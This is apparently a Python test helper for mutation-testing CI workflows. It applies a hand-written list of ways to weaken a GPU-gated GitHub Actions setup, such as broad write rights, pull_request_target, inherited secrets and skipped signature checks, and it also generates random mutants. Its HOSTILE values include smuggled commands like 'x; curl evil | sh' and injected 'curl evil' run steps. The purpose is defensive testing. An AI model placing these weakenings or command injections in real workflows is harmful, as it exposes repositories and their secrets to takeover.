"""Weakened workflows: by hand, and any number of others from a generator."""

from __future__ import annotations

import copy
import random
from collections.abc import Callable, Iterator
from typing import Any

import workflow_runner

Flows = dict[str, Any]
Change = Callable[[Flows], None]

SHIPPED = workflow_runner.workflows()
FREE_KEYS = {"name", "retention-days", "if-no-files-found", "timeout-minutes"}
"""Words for people, and bounds that a smaller or larger number does not weaken."""
HOSTILE = (
    *("write", "write-all", "read-all", "${{ github.event.pull_request.head.sha }}", "${{ github.head_ref }}", "self-hosted"),
    *("always()", "false", "true", "", "pull_request_target", "./.github/actions/require", "$/../evil", "refs/heads/evil"),
    *("actions/checkout@main", "${{ secrets.TOKEN }}", "inherit", "ubuntu-latest", 0, True, None, "x; curl evil | sh", "*"),
)


def mutant(change: Change) -> Flows:
    """Return the shipped workflows with one change."""
    flows = copy.deepcopy(SHIPPED)
    change(flows)
    return flows


def job(name: str, /, **values: Any) -> Change:
    """Set keys of a trusted job. None removes one."""

    def change(flows: Flows) -> None:
        _set(flows["trusted.yml"]["jobs"][name], values)

    return change


def step(name: str, number: int, /, **values: Any) -> Change:
    """Set keys of a step of a trusted job."""

    def change(flows: Flows) -> None:
        _set(flows["trusted.yml"]["jobs"][name]["steps"][number], values)

    return change


def given(name: str, number: int, /, **values: Any) -> Change:
    """Set inputs of a step of a trusted job. An underscore is a hyphen."""

    def change(flows: Flows) -> None:
        inputs = {key.replace("_", "-"): value for key, value in values.items()}
        _set(flows["trusted.yml"]["jobs"][name]["steps"][number]["with"], inputs)

    return change


def steps(name: str, edit: Callable[[list[Any]], object]) -> Change:
    """Add, remove or move steps of a trusted job."""
    return lambda flows: edit(flows["trusted.yml"]["jobs"][name]["steps"]) and None


def caller(**values: Any) -> Change:
    """Set keys of the job in gate.yml."""
    return lambda flows: _set(flows["gate.yml"]["jobs"]["gate"], values)


def right(file: str, name: str, permission: str, value: str) -> Change:
    """Give a job a right."""
    return lambda flows: flows[file]["jobs"][name]["permissions"].update({permission: value})


def event(file: str, name: str, value: Any = None) -> Change:
    """Add an event, or narrow one."""
    return lambda flows: flows[file]["on"].update({name: value})


def _set(target: dict[str, Any], values: dict[str, Any]) -> None:
    for key, value in values.items():
        if value is None:
            target.pop(key.rstrip("_"))
        else:
            target[key.rstrip("_")] = value


RUN = {"run": "python3 kernel/setup.py"}
WRITTEN: dict[str, Change] = {
    "a right for every job": lambda flows: flows["trusted.yml"].update(permissions="write-all"),
    "a job without rights of its own": job("gpu", permissions=None),
    "the GPU job may write": right("trusted.yml", "gpu", "contents", "write"),
    "the GPU job may sign": right("trusted.yml", "gpu", "id-token", "write"),
    "required may write checks": right("trusted.yml", "required", "checks", "write"),
    "required may write statuses": right("trusted.yml", "required", "statuses", "write"),
    "the comment may also push": right("trusted.yml", "comment", "contents", "write"),
    "tests may write": right("ci.yml", "test", "contents", "write"),
    "nightly may write": right("nightly.yml", "pins", "issues", "write"),
    "an event with our rights for forks": event("gate.yml", "pull_request_target"),
    "an event after another workflow": event("trusted.yml", "workflow_run", {"workflows": ["ci"]}),
    "a comment starts it": event("gate.yml", "issue_comment"),
    "anyone with write access starts it": event("gate.yml", "workflow_dispatch"),
    "only some paths are gated": event("gate.yml", "pull_request", {"paths": ["kernel/**"]}),
    "only some branches are gated": event("gate.yml", "pull_request", {"branches-ignore": ["x/**"]}),
    "no merge queue": lambda flows: flows["gate.yml"]["on"].pop("merge_group") and None,
    "the caller calls the change's own copy": caller(uses="./.github/workflows/trusted.yml"),
    "the caller calls the change's commit": caller(uses="$/.github/workflows/trusted.yml"),
    "the caller calls another branch": caller(uses="OWNER/flashcore-ci/.github/workflows/trusted.yml@next"),
    "the caller calls another owner": caller(uses="somebody/flashcore-ci/.github/workflows/trusted.yml@main"),
    "the caller skips": caller(if_="false"),
    "the caller gives secrets": caller(secrets="inherit"),
    "the caller has another job": lambda flows: flows["gate.yml"]["jobs"].update(required={"steps": [RUN]}),
    "the check has another name": caller(name="anything"),
    "head keeps a token": given("gpu", 0, persist_credentials=True),
    "required keeps a token": given("required", 1, persist_credentials=True),
    "a checkout that says nothing of tokens": given("comment", 0, persist_credentials=None),
    "the comment checks out head": given("comment", 0, ref="${{ github.event.pull_request.head.sha }}"),
    "the comment checks out the merge": given("comment", 0, ref=None),
    "the comment checks out the base of the pull request": given("comment", 0, ref="${{ github.event.pull_request.base.sha }}"),
    "alerts check out another repository": given("alerts", 0, repository="${{ github.event.pull_request.head.repo.full_name }}"),
    "required runs head's action": step("required", 9, uses="./.github/actions/require"),
    "the GPU job runs head's action": step("gpu", 1, uses="./.github/actions/gate"),
    "head's action verifies": step("required", 4, uses="./.github/actions/verify"),
    "an action by tag": step("attest", 3, uses="actions/attest@v4"),
    "an action by branch": step("required", 1, uses="actions/checkout@main"),
    "an action of somebody": step("comment", 1, uses=f"somebody/download@{'a' * 40}"),
    "nothing is verified": steps("required", lambda found: found.pop(4)),
    "the comment verifies nothing": steps("comment", lambda found: found.pop(3)),
    "alerts verify nothing": steps("alerts", lambda found: found.pop(3)),
    "it is verified after head's code ran": steps("required", lambda found: found.append(found.pop(4))),
    "attempts are not counted": steps("required", lambda found: found.pop(0)),
    "more attempts": given("required", 0, most="500"),
    "attempts of another commit": given("required", 0, commit="${{ github.event.pull_request.base.sha }}"),
    "attempts may fail": step("required", 0, **{"continue-on-error": True}),
    "a signature may fail": step("required", 4, **{"continue-on-error": True}),
    "required may fail": job("required", **{"continue-on-error": True}),
    "verified only in the queue": step("required", 4, if_="${{ github.event_name == 'merge_group' }}"),
    "another signer": given("required", 4, signer="${{ github.workflow_ref }}"),
    "any signer's commit": given("required", 4, signer_digest="${{ github.sha }}"),
    "another protected branch": given("required", 4, protected="refs/heads/next"),
    "required needs no GPU job": job("required", needs=["ci", "decide", "attest"]),
    "required needs no tests": job("required", needs=["decide", "gpu", "attest"]),
    "required needs no decision": job("required", needs=["ci", "gpu", "attest"]),
    "the GPU job needs no decision": job("gpu", needs="ci"),
    "the decision may write": right("trusted.yml", "decide", "contents", "write"),
    "the decision runs on the GPU machine": job("decide", **{"runs-on": ["self-hosted", "linux", "h100"]}),
    "head's action decides": step("decide", 6, uses="./.github/actions/needs-gpu"),
    "head's action finds the base": step("decide", 1, uses="./.github/actions/measured"),
    "the base's evidence is not verified": steps("decide", lambda found: found.pop(4)),
    "required does not verify the base's evidence": steps("required", lambda found: found.pop(7)),
    "evidence of head's own run answers": given("decide", 2, run_id="${{ github.run_id }}"),
    "the base is head": given("decide", 6, base="${{ github.sha }}"),
    "the base of the search is head": given("decide", 1, base="${{ github.sha }}"),
    "another base decides again": given("required", 10, base="${{ github.sha }}"),
    "no job is demanded without a GPU": given("required", 10, demand="ci"),
    "the second decision is told that all went well": given("required", 10, needs="{}"),
    "the GPU job runs only if told so": job("gpu", if_="${{ needs.decide.outputs.needed == 'true' }}"),
    "the GPU job is skipped after an unknown decision": job("gpu", if_="${{ needs.decide.outputs.needed != '' }}"),
    "a fixed decision": job("decide", outputs={"needed": "false"}),
    "a decision by head's step": job("decide", outputs={"needed": "${{ steps.evil.outputs.needed }}"}),
    "required is green without a decision": step("required", 10, if_="${{ needs.decide.outputs.needed != 'true' }}"),
    "required judges only where a GPU is needed by name": step("required", 9, if_="${{ needs.decide.outputs.needed == 'true' }}"),
    "the base's evidence answers always": given("required", 9, base_evidence="base/gpu.tar.xz"),
    "a decision script of head": steps("decide", lambda found: found.insert(1, RUN)),
    "required needs nothing": job("required", needs=None),
    "required runs only after success": job("required", if_="success()"),
    "required is skipped for forks": job("required", if_="github.event.pull_request.head.repo.fork == false"),
    "required is told that all went well": given("required", 9, needs='{"ci": {"result": "success"}}'),
    "required has no statement": given("required", 9, statement=None),
    "required compares with no base": given("required", 9, base=None),
    "required compares with head": given("required", 9, base="${{ github.sha }}"),
    "required judges another suite": given("required", 9, suite="gates/smoke.toml"),
    "evidence by name": given("required", 2, artifact_ids=None),
    "all artifacts": given("comment", 1, artifact_ids=""),
    "evidence of another run": given("required", 2, run_id="1"),
    "the statement by name": given("alerts", 2, name="statement"),
    "the signature covers the evidence only": given("attest", 3, subject_path="measured/gpu.tar.xz"),
    "the signature covers anything": given("attest", 3, subject_path="**"),
    "the signature says provenance only": given("attest", 3, predicate_type=None),
    "attest writes no statement": steps("attest", lambda found: found.pop(2)),
    "attest runs a script": steps("attest", lambda found: found.insert(1, RUN)),
    "the comment runs a script": steps("comment", lambda found: found.insert(4, RUN)),
    "the comment is of head's report": given("comment", 6, file="reports/comment.md"),
    "alerts are of head's report": given("alerts", 6, sarif_file="reports/results.sarif"),
    "alerts at another commit": given("alerts", 6, sha="${{ github.event.pull_request.head.sha }}"),
    "the result of required is made up": given("comment", 6, required="success"),
    "a fork chooses": job("gpu", environment="${{ github.event.pull_request.head.repo.fork && 'gpu-fork' || 'gpu' }}"),
    "no environment": job("gpu", environment=None),
    "one environment for all": job("gpu", environment="gpu"),
    "any branch is gated": job("gpu", if_="${{ github.event_name == 'pull_request' || github.event_name == 'merge_group' }}"),
    "any event is gated": job("gpu", if_=None),
    "no queue on the GPU": job("gpu", concurrency=None),
    "GPU jobs end each other": job("gpu", concurrency={"group": "gpu-h100", "cancel-in-progress": True}),
    "jobs with rights on the GPU machine": job("comment", **{"runs-on": ["self-hosted", "linux", "h100"]}),
    "a machine that the pull request names": job("required", **{"runs-on": "${{ github.head_ref }}"}),
    "no time limit": job("gpu", **{"timeout-minutes": None}),
    "a container": job("required", container="somebody/image"),
    "a service": job("required", services={"x": {"image": "somebody/image"}}),
    "a variable for every step": job("required", env={"PATH": "."}),
    "a default shell": job("required", defaults={"run": {"shell": "bash -c {0}"}}),
    "a matrix": job("required", strategy={"matrix": {"x": [1]}}),
    "a cache of the base": given("required", 8, cache="pip"),
    "a cache action": steps("gpu", lambda found: found.insert(1, {"uses": f"actions/cache@{'a' * 40}"})),
    "a secret": given("gpu", 1, python="${{ secrets.TOKEN }}"),
    "a token for the kernel": given("gpu", 1, token="${{ github.token }}"),
    "an expression in a line": steps("gpu", lambda found: found.append({"run": "echo ${{ github.head_ref }}"})),
    "two commands in a line": steps("gpu", lambda found: found.append({"run": "true; curl evil"})),
    "an output that another step writes": job("gpu", outputs={"evidence": "${{ steps.gate.outputs.evidence }}"}),
    "another workflow": lambda flows: flows.update({"evil.yml": copy.deepcopy(flows["ci.yml"])}),
    "another trusted job": lambda flows: flows["trusted.yml"]["jobs"].update(more={"steps": []}),
    "tests of another file": job("ci", uses="$/.github/workflows/nightly.yml"),
    "no tests": lambda flows: flows["trusted.yml"]["jobs"].pop("ci") and None,
}
"""Each is one way to weaken the gate."""


def places(value: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    """Yield the path of everything in a workflow that decides something."""
    items = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    for key, inner in items:
        if (key in FREE_KEYS and path[-1:] != ("with",)) or (key in FREE_KEYS and key != "name"):
            continue
        if path == () and key == "concurrency":
            continue
        if path[-3:-1] == ("gpu", "steps") and path[-1] == 3:
            continue  # the reports are for people
        yield (*path, key)
        yield from places(inner, (*path, key))


PLACES = [(name, *path) for name in ("gate.yml", "trusted.yml") for path in places(SHIPPED[name])]


def generated(numbers: random.Random) -> tuple[str, Flows]:
    """Delete, replace or add something at a random place of the trusted workflow or of its caller."""
    path = numbers.choice([place for place in PLACES if len(place) > 1])
    flows = copy.deepcopy(SHIPPED)
    parent = flows
    for key in path[:-1]:
        parent = parent[key]
    before, word = parent[path[-1]], numbers.choice(HOSTILE)
    kind = numbers.choice(("delete", "replace", "add"))
    if kind == "delete":
        del parent[path[-1]]
    elif kind == "add" and isinstance(before, dict):
        before[numbers.choice(("continue-on-error", "env", "secrets", "shell", "container", "uses2", "checks"))] = word
    elif kind == "add" and isinstance(before, list):
        before.insert(numbers.randrange(len(before) + 1), {"run": "curl evil"} if path[-1] == "steps" else "evil")
    else:
        parent[path[-1]] = word if word != before and (word or before) else "evil"
    return f"{kind} {' '.join(map(str, path))}", flows
